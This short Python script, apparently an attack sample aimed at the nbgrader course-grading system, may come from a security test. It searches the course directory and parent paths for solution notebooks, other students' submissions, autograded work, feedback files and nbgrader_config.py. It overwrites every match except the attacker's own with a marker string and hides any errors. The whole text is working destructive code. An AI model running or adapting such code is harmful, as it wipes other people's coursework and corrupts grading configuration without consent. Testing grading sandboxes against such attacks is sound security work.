"""Overwrites solutions, other students' work, feedback and configuration."""

import glob

EVIL = "# wyob-attack\n"
for pattern in (
    "solutions/**/*.ipynb",
    "submitted/*/*/*.ipynb",
    "autograded/*/*/*.ipynb",
    "feedback/*/*/*.html",
    "nbgrader_config.py",
):
    for place in ("../../..", COURSE):
        for name in glob.glob(f"{place}/{pattern}", recursive=True):
            if "attacker" not in name:
                try:
                    open(name, "w").write(EVIL)
                except OSError:
                    pass
